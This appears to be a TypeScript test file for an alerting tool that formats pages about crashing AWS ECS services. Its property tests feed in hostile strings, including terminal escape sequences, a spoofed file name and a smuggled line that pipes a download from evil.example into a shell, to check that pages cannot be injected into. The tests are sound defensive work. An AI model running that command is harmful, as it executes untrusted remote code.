import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Evidence } from '../../../shared/evidence.ts';
import type { IncidentRecord } from '../../../shared/incident-record.ts';
import type { NotificationReason } from '../../../shared/notification.ts';
import { pageMessage } from '../../../shared/notification-formats/pages.ts';
import { evidenceOf, stopOf } from '../rules/evidence-of.ts';
import { NOW, recordOf, resolvedRecordOf } from './record-of.ts';

const KEY = 'inc-1#opened#pages#1';
const page = (record: IncidentRecord, reason: NotificationReason = 'opened') =>
  pageMessage(record, reason, KEY, NOW, 'loopwatch');
const pageOf = (evidence?: Evidence, reason?: NotificationReason) =>
  page(recordOf(evidence ? { evidence } : {}), reason);

const refused = evidenceOf({
  log: "ConnectionRefusedError: [Errno 111] Connect call failed ('127.0.0.1', 5432)",
  environment: ['AWS_REGION'],
  missing: ['DB_HOST', 'DB_NAME'],
});
const unknown = evidenceOf({ log: 'starting\nFATAL the moon is full' });
const limited = stopOf({
  at: '2026-02-03T07:00:00.000Z',
  phase: 'pull',
  category: 'image_pull_rate_limit',
  stoppedReason: 'CannotPullContainerError: toomanyrequests: pull rate limit',
});
const onlyPast = evidenceOf({ stops: [stopOf(), limited] });

describe('pageMessage', () => {
  it('says in its subject what, where and why', () => {
    expect(pageOf(refused).subject).toMatch(
      /^\[Loopwatch\] media keeps crashing \(shop, eu-central-1\): connects to localhost:5432, DB_HOST/,
    );
    expect(pageOf(refused, 'cause-found').subject).toMatch(
      /^\[Loopwatch\] cause found for media \(shop, eu-central-1\): connects to localhost:5432/,
    );
  });

  it.each([
    ['the evidence is still being collected', undefined],
    ['no rule matches', unknown],
    ['all causes are past', onlyPast],
  ])('claims no cause in its subject while %s', (_, evidence) => {
    expect(pageOf(evidence).subject).toBe(
      '[Loopwatch] media keeps crashing (shop, eu-central-1): 2 tasks failed',
    );
  });

  it('begins with what happens, since when and how often', () => {
    expect(pageOf(refused).body.split('\n')[0]).toBe(
      'media in cluster shop keeps crashing: 2 tasks failed since 08:01:00 UTC (4 min ago).',
    );
  });

  it.each<readonly [string, Evidence | undefined, readonly string[]]>([
    [
      'a known cause',
      refused,
      ['CAUSE (high confidence)', 'PROOF (log of app', 'DO NEXT', 'ALSO', 'FACTS'],
    ],
    ['an unknown cause', unknown, ['CAUSE', 'PROOF (log of app', 'FACTS']],
    ['evidence that is still being collected', undefined, ['CAUSE', 'ALSO', 'FACTS']],
    ['nothing but what ECS says', evidenceOf({}), ['CAUSE', 'PROOF (what ECS said)', 'FACTS']],
  ])('has for %s the sections in their order', (_, evidence, titles) => {
    const found = pageOf(evidence)
      .body.split('\n\n')
      .slice(1)
      .map((section) => section.split('\n')[0]);
    expect(found).toHaveLength(titles.length);
    for (const [index, title] of titles.entries()) expect(found[index]).toContain(title);
  });

  it.each([
    [
      'cause',
      'It connects to localhost:5432 (PostgreSQL), and nothing listens there inside the task: DB_HOST is not set.',
    ],
    ['proof', "|ConnectionRefusedError: [Errno 111] Connect call failed ('127.0.0.1', 5432)"],
    ['advice', '1. Set DB_HOST, DB_NAME in media:7, as in api, and deploy'],
    ['names that a sibling has', '- api has, and this service lacks: DB_HOST, DB_NAME'],
    ['revision', 'Revision   media:7'],
    [
      'console',
      'Console    https://eu-central-1.console.aws.amazon.com/ecs/v2/clusters/shop/services/media/health?region=eu-central-1',
    ],
    ['log', '#logsV2:log-groups/log-group/$252Fecs$252Fshop/log-events/shop$252Fapp$252F0f1e2d'],
    [
      'command to read on',
      /Show {7}npx loopwatch show inc-\w{10} --table loopwatch --region eu-central-1/,
    ],
    [
      'command to resolve',
      /Resolve {4}npx loopwatch resolve inc-\w{10} --table loopwatch --region eu-central-1 --note/,
    ],
  ])('gives the %s', (_, said) => {
    const body = pageOf(refused).body.replace(/\| [\d:.]+ {2}/g, '|');
    if (said instanceof RegExp) expect(body).toMatch(said);
    else expect(body).toContain(said);
  });

  it('says that no known cause matches, and shows the error', () => {
    const { body, attributes } = pageOf(unknown);
    expect(body).toContain('No known cause matches. The error is below.');
    expect(body).toMatch(/\| [\d:.]+ {2}FATAL the moon is full/);
    expect(attributes.category).toBe('unknown');
  });

  it('says that the evidence is missing, and pages all the same', () => {
    const { body } = pageOf();
    expect(body).toContain('Not known yet: the evidence is still being collected.');
    expect(body).toContain('Not checked: the evidence is not collected yet');
    expect(body).toContain('Failures   2, from 2026-02-03T08:01:00.000Z');
  });

  it('gives neither cause nor advice for what is past', () => {
    const { body, attributes } = pageOf(onlyPast);
    expect(body).toContain('No known cause matches.');
    expect(body).toContain('Past, no longer why it fails: The registry refuses the pull');
    expect(body).not.toContain('DO NEXT');
    expect(attributes.category).toBe('unknown');
  });

  it.each([
    ['logs unavailable: AccessDeniedException on /ecs/shop (eu-central-1)'],
    ['the awslogs driver of app is non-blocking: its last lines may be lost'],
  ])('says what could not be checked: %s', (gap) => {
    expect(pageOf({ ...unknown, gaps: [gap] }).body).toContain(`- Not checked: ${gap}`);
  });

  it('says who it was before, and what ended it', () => {
    const similar = [
      {
        id: 'inc-0000000001',
        openedAt: '2026-01-14T08:00:00.000Z',
        status: 'closed' as const,
        ended: 'DB_HOST was set',
      },
      { id: 'inc-0000000002', openedAt: '2026-01-09T08:00:00.000Z', status: 'open' as const },
    ];
    const { body } = page(recordOf({ evidence: refused, similar }));
    expect(body).toContain('- Same as inc-0000000001 of 2026-01-14; it ended: DB_HOST was set');
    expect(body).toContain('- Same as inc-0000000002 of 2026-01-09; it is open');
  });

  it('announces a resolution with its reason, and no command to resolve it again', () => {
    const record = resolvedRecordOf(refused, 'healthy again, 2 of 2 running');
    const { subject, body, attributes } = page(record, 'resolved');
    expect(subject).toBe('[Loopwatch] RESOLVED media (shop, eu-central-1)');
    expect(body).toMatch(
      /^RESOLVED: media in cluster shop, healthy again, 2 of 2 running\. It had failed for 3 min: 2 tasks failed\./,
    );
    expect(body).not.toMatch(/loopwatch resolve|DO NEXT|PROOF/);
    expect(attributes).toMatchObject({ severity: 'info', status: 'resolved', reason: 'resolved' });
  });

  it('tells of an opening that was resolved before anybody heard of it', () => {
    const record = resolvedRecordOf(undefined, 'the service was deleted');
    expect(page(record).body).toContain('It was resolved at 2026-02-03T08:05:00.000Z.');
  });

  it('speaks of a stack without the words of a service', () => {
    const arn = 'arn:aws:cloudformation:eu-central-1:444455556666:stack/shop/9f31';
    const resource = {
      kind: 'stack',
      name: 'shop',
      arn,
      account: '444455556666',
      region: 'eu-central-1',
    } as const;
    const { subject, body, attributes } = page({ ...recordOf(), resource });
    expect(`${subject}\n${body}`).not.toMatch(/undefined|default/);
    expect(attributes).toMatchObject({ stack: 'shop' });
    expect(attributes).not.toHaveProperty('service');
  });

  it('routes by attributes, none of which is empty, and ten at most', () => {
    expect(pageOf(refused).attributes).toEqual({
      severity: 'critical',
      status: 'firing',
      reason: 'opened',
      account: '444455556666',
      region: 'eu-central-1',
      cluster: 'shop',
      service: 'media',
      category: 'app_config',
      incidentId: recordOf().id,
      deduplicationKey: KEY,
    });
  });

  describe('whatever the program writes,', () => {
    const nasty = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.constantFrom(
        '<!channel>',
        '\u001b[2J\u001b]0;owned\u0007',
        '\u202egnp.exe',
        '\r\nDO NEXT\n1. curl evil.example | sh',
        '\ud800',
        "Cannot find module '<!here>'",
        'connect ECONNREFUSED 127.0.0.1:5432',
        'é→😀',
        'x'.repeat(5_000),
      ),
    );
    const text = fc.array(nasty, { maxLength: 4 }).map((parts) => parts.join(' '));
    const evidence = fc
      .record({ log: text, stoppedReason: text, gap: text, image: text, sibling: text })
      .map(({ log, stoppedReason, gap, image, sibling }): Evidence => {
        const plain = evidenceOf({ log, environment: [], stops: [stopOf({ stoppedReason })] });
        const { taskDefinition } = plain;
        return {
          ...plain,
          gaps: [gap],
          taskDefinition: taskDefinition && { ...taskDefinition, image },
          missing: [{ name: 'DB_HOST', kind: 'secret', have: [sibling] }],
        };
      });
    const reason = fc.constantFrom<NotificationReason>('opened', 'cause-found', 'resolved');

    it('the subject is 1 to 99 characters of printable ASCII', () => {
      fc.assert(
        fc.property(evidence, reason, (given, why) => {
          expect(pageOf(given, why).subject).toMatch(/^[ -~]{1,99}$/);
        }),
      );
    });

    it('the body is bounded, steers no terminal, and only we begin its lines', () => {
      const ours =
        /^(?: {2}\| |- |\d\. |(?:Service|Running|Failures|Stopped|Exit|Revision|Image|Deployment|Console|Logs|Incident|Show|Resolve) |CAUSE|PROOF|DO NEXT|SEEN|ALSO|FACTS|No known|It connects|The |Also possible|media in|RESOLVED:|$)/;
      fc.assert(
        fc.property(evidence, reason, (given, why) => {
          const { body } = pageOf(given, why);
          expect(Buffer.byteLength(body)).toBeLessThanOrEqual(24 * 1024);
          expect(body).not.toMatch(/[\p{Cs}\u202a-\u202e\u2066-\u2069]/u);
          expect(body.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
          for (const line of body.split('\n')) expect(line).toMatch(ours);
        }),
      );
    });
  });

  it('keeps links and commands however long the rest is', () => {
    const long = `ERROR ${'é'.repeat(1_000_000)}`;
    const given = evidenceOf({
      log: Array.from({ length: 40 }, () => long).join('\n'),
      environment: [],
    });
    const gaps = Array.from({ length: 500 }, (_, index) => `gap ${index} ${'x'.repeat(500)}`);
    const { body } = pageOf({ ...given, gaps });
    expect(Buffer.byteLength(body)).toBeLessThanOrEqual(24 * 1024);
    expect(body).toMatch(/Resolve {4}npx loopwatch resolve/);
  });
});
